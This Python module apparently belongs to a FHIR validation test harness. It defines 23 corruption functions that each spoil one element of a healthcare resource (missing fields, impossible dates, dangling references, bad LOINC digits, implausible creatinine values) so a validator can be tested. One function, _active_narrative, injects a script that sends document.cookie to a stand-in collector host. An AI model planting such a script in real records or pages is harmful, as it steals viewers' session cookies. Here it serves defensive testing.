"""The 23 corruptions: each changes one thing in a resource, and gives up where it does not apply.

A corruption takes a resource it may change, and a `Pool`; it returns the path of the element it spoilt, or None when
the resource has nothing to spoil in this way (it is then unchanged).
"""

from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any

import numpy as np

from carelab.fhir.read import Resource

UCUM = "http://unitsofmeasure.org"
LOINC = "http://loinc.org"
CREATININE = "2160-0"
UMOL_PER_MG = 88.4  # micromoles per litre in a milligram of creatinine per decilitre
NOBODY = "Patient/pat-999999"


@dataclass(frozen=True)
class Pool:
    """What corruptions draw from. births: birth date by reference to a patient; ids: of each type in the feed."""

    rng: np.random.Generator
    births: Mapping[str, str]
    ids: Mapping[str, list[str]]


Corruption = Callable[[Resource, Pool], str | None]

# One required element a type; without it no reader can tell what the resource is about.
_REQUIRED = {
    "Appointment": "participant", "Condition": "subject", "Coverage": "payor", "Encounter": "class", "Observation": "code",
    "Claim": "patient", "MedicationRequest": "subject", "Slot": "schedule", "Consent": "scope", "AuditEvent": "agent",
    "ServiceRequest": "subject", "DocumentReference": "content", "Provenance": "target",
}  # fmt: skip
_STATUS = (
    "Appointment", "Encounter", "Observation", "Coverage", "Claim", "MedicationRequest", "Slot", "Consent",
    "ServiceRequest", "DocumentReference", "Communication",
)  # fmt: skip
# Element by which a resource names its patient.
_PATIENT = {
    "Condition": "subject", "Encounter": "subject", "Observation": "subject", "MedicationRequest": "subject",
    "ServiceRequest": "subject", "DocumentReference": "subject", "Communication": "subject", "Coverage": "beneficiary",
    "Claim": "patient", "Consent": "patient",
}  # fmt: skip
_WITH_TIME = {
    "Appointment": "start", "Slot": "start", "AuditEvent": "recorded", "Observation": "effectiveDateTime",
    "Condition": "recordedDate", "MedicationRequest": "authoredOn", "Communication": "sent", "ServiceRequest": "authoredOn",
    "Provenance": "recorded",
}  # fmt: skip
_DATES = {
    "Patient": "birthDate", "Condition": "recordedDate", "Observation": "effectiveDateTime", "Claim": "created",
    "MedicationRequest": "authoredOn", "Consent": "dateTime",
}  # fmt: skip
_CLINICAL = {
    "Condition": "recordedDate", "Observation": "effectiveDateTime", "MedicationRequest": "authoredOn",
    "ServiceRequest": "authoredOn",
}  # fmt: skip


def _take(resource: Resource, elements: Mapping[str, str]) -> str | None:
    """The listed element of this type, if the resource has it."""
    element = elements.get(resource["resourceType"])
    return element if element and element in resource else None


def _missing_required(resource: Resource, _: Pool) -> str | None:
    element = _take(resource, _REQUIRED)
    if element:
        del resource[element]
    return element


def _missing_status(resource: Resource, _: Pool) -> str | None:
    if resource["resourceType"] not in _STATUS or "status" not in resource:
        return None
    del resource["status"]
    return "status"


def _unknown_element(resource: Resource, pool: Pool) -> str | None:
    name = str(pool.rng.choice(["remarks", "sourceSystem", "lastUser", "localStatus"]))
    resource[name] = "HIS-7"
    return name


def _object_for_array(resource: Resource, _: Pool) -> str | None:
    for name, value in resource.items():
        if name != "extension" and isinstance(value, list) and isinstance(value[0], dict):
            resource[name] = value[0]
            return name
    return None


def _instant_without_zone(resource: Resource, _: Pool) -> str | None:
    element = _take(resource, _WITH_TIME)
    if element and "T" in resource[element]:
        resource[element] = resource[element][:19]
        return element
    if resource["resourceType"] == "Encounter" and "T" in resource.get("period", {}).get("start", ""):
        resource["period"]["start"] = resource["period"]["start"][:19]
        return "period.start"
    return None


def _us_date(resource: Resource, _: Pool) -> str | None:
    if element := _take(resource, _DATES):
        year, month, day = resource[element][:10].split("-")
        resource[element] = f"{month}/{day}/{year}"
    return element


def _r5_shape(resource: Resource, _: Pool) -> str | None:
    """The same content as release 5 writes it."""
    match resource["resourceType"]:
        case "Encounter":
            resource["class"] = [{"coding": [resource["class"]]}]
            if "period" in resource:
                resource["actualPeriod"] = resource.pop("period")
            return "class"
        case "Appointment" if "cancelationReason" in resource:
            resource["cancellationReason"] = resource.pop("cancelationReason")
            return "cancellationReason"
        case "Appointment":
            resource["serviceType"] = [{"concept": entry} for entry in resource.get("serviceType", [])]
            return "serviceType"
        case "Coverage":
            resource["kind"], resource["insurer"] = "insurance", resource.pop("payor")[0]
            return "insurer"
        case "MedicationRequest" if "medicationCodeableConcept" in resource:
            resource["medication"] = {"concept": resource.pop("medicationCodeableConcept")}
            return "medication"
        case "AuditEvent":
            resource["category"] = [{"coding": [resource.pop("type")]}]
            return "category"
    return None


def _impossible_date(resource: Resource, _: Pool) -> str | None:
    if element := _take(resource, _DATES):
        resource[element] = "2021-02-30" + resource[element][10:]
    return element


def _two_value_types(resource: Resource, _: Pool) -> str | None:
    match resource["resourceType"]:
        case "Observation" if "valueQuantity" in resource:
            resource["valueString"] = str(resource["valueQuantity"].get("value"))
            return "value[x]"
        case "Patient":
            resource["deceasedBoolean"] = False
            resource["deceasedDateTime"] = "2026-06-01"
            return "deceased[x]"
    return None


def _number_as_string(resource: Resource, _: Pool) -> str | None:
    if resource["resourceType"] == "Appointment":
        resource["minutesDuration"] = str(resource["minutesDuration"])
        return "minutesDuration"
    if "value" in resource.get("valueQuantity", {}):
        resource["valueQuantity"]["value"] = str(resource["valueQuantity"]["value"])
        return "valueQuantity.value"
    if resource["resourceType"] == "Claim" and "value" in resource.get("total", {}):
        resource["total"]["value"] = str(resource["total"]["value"])
        return "total.value"
    return None


def _unknown_status(resource: Resource, _: Pool) -> str | None:
    if resource["resourceType"] not in _STATUS:
        return None
    resource["status"] = "done"
    return "status"


def _unknown_gender(resource: Resource, _: Pool) -> str | None:
    if "gender" not in resource:
        return None
    resource["gender"] = resource["gender"][0].upper()
    return "gender"


def _wrong_reference_type(resource: Resource, _: Pool) -> str | None:
    if element := _take(resource, {kind: name for kind, name in _PATIENT.items() if kind != "Communication"}):
        resource[element] = {"reference": "Organization/lakeshore-health"}
    return element


def _dangling_reference(resource: Resource, _: Pool) -> str | None:
    if element := _take(resource, _PATIENT):
        resource[element] = {"reference": NOBODY}
        return element
    if resource["resourceType"] == "Appointment":
        resource["participant"][0]["actor"] = {"reference": NOBODY}
        return "participant.actor"
    return None


def _period_reversed(resource: Resource, _: Pool) -> str | None:
    period = resource.get("period", {})
    if (
        resource["resourceType"] == "Encounter"
        and {"start", "end"} <= period.keys()
        and period["start"] != period["end"]
    ):
        period["start"], period["end"] = period["end"], period["start"]
        return "period"
    if resource["resourceType"] in ("Appointment", "Slot"):
        resource["start"], resource["end"] = resource["end"], resource["start"]
        return "end"
    return None


def _unknown_unit(resource: Resource, _: Pool) -> str | None:
    quantity = resource.get("valueQuantity", {})
    if resource["resourceType"] != "Observation" or quantity.get("system") != UCUM:
        return None
    quantity["unit"] = quantity["code"] = "mgs/dl"
    return "valueQuantity.code"


def _code(resource: Resource) -> dict[str, Any] | None:
    """The LOINC coding of an observation."""
    found = [entry for entry in resource.get("code", {}).get("coding", []) if entry.get("system") == LOINC]
    return found[0] if resource["resourceType"] == "Observation" and found else None


def _implausible_value(resource: Resource, _: Pool) -> str | None:
    coding, quantity = _code(resource), resource.get("valueQuantity", {})
    if not coding or coding["code"] != CREATININE or quantity.get("code") != "mg/dL":
        return None
    quantity["value"] = round(max(quantity["value"], 0.6) * UMOL_PER_MG, 1)
    return "valueQuantity.value"


def _total_not_sum(resource: Resource, pool: Pool) -> str | None:
    items = resource.get("item", [])
    if resource["resourceType"] != "Claim" or "total" not in resource or not all("net" in item for item in items):
        return None
    total = round(sum(item["net"]["value"] for item in items), 2)
    resource["total"]["value"] = round(total + float(pool.rng.choice([10.0, 90.0, 100.0, -9.0])), 2)
    return "total"


def _duplicate_id(resource: Resource, pool: Pool) -> str | None:
    others = pool.ids[resource["resourceType"]]
    if not others:
        return None
    resource["id"] = str(pool.rng.choice(others))
    return "id"


def _loinc_check_digit(resource: Resource, pool: Pool) -> str | None:
    coding = _code(resource)
    if not coding:
        return None
    stem, digit = coding["code"].split("-")
    coding["code"] = f"{stem}-{(int(digit) + int(pool.rng.integers(1, 10))) % 10}"
    return "code.coding.code"


def _death_before_birth(resource: Resource, _: Pool) -> str | None:
    if resource["resourceType"] != "Patient":
        return None
    resource.pop("deceasedBoolean", None)
    year = int(resource["birthDate"][:4])
    resource["deceasedDateTime"] = f"{year - 3}-05-17"
    return "deceasedDateTime"


def _event_before_birth(resource: Resource, pool: Pool) -> str | None:
    born = pool.births.get(resource.get("subject", {}).get("reference", ""))
    if not born:
        return None
    before = f"{int(born[:4]) - 2}"
    if element := _take(resource, _CLINICAL):
        when = resource[element]
        resource[element] = before + (when[4:] if not when[4:].startswith("-02-29") else "-02-28" + when[10:])
        return element
    period = resource.get("period", {})
    if resource["resourceType"] == "Encounter" and "start" in period:
        resource["period"] = {"start": f"{before}-03-04T10:00:00Z", "end": f"{before}-03-06T10:00:00Z"}
        return "period"
    return None


def _active_narrative(resource: Resource, _: Pool) -> str | None:
    inside = "<p>Summary</p><script>fetch('https://collector.example.org/?c='+document.cookie)</script>"
    resource["text"] = {"status": "generated", "div": f'<div xmlns="http://www.w3.org/1999/xhtml">{inside}</div>'}
    return "text.div"


SHAPE: dict[str, Corruption] = {
    "missing-required": _missing_required,
    "missing-status": _missing_status,
    "unknown-element": _unknown_element,
    "object-for-array": _object_for_array,
    "instant-without-zone": _instant_without_zone,
    "us-date": _us_date,
    "r5-shape": _r5_shape,
    "impossible-date": _impossible_date,
    "two-value-types": _two_value_types,
    "number-as-string": _number_as_string,
}
MEANING: dict[str, Corruption] = {
    "unknown-status": _unknown_status,
    "unknown-gender": _unknown_gender,
    "wrong-reference-type": _wrong_reference_type,
    "dangling-reference": _dangling_reference,
    "period-reversed": _period_reversed,
    "unknown-unit": _unknown_unit,
    "implausible-value": _implausible_value,
    "total-not-sum": _total_not_sum,
    "duplicate-id": _duplicate_id,
    "loinc-check-digit": _loinc_check_digit,
    "death-before-birth": _death_before_birth,
    "event-before-birth": _event_before_birth,
    "active-narrative": _active_narrative,
}
CORRUPTIONS = SHAPE | MEANING
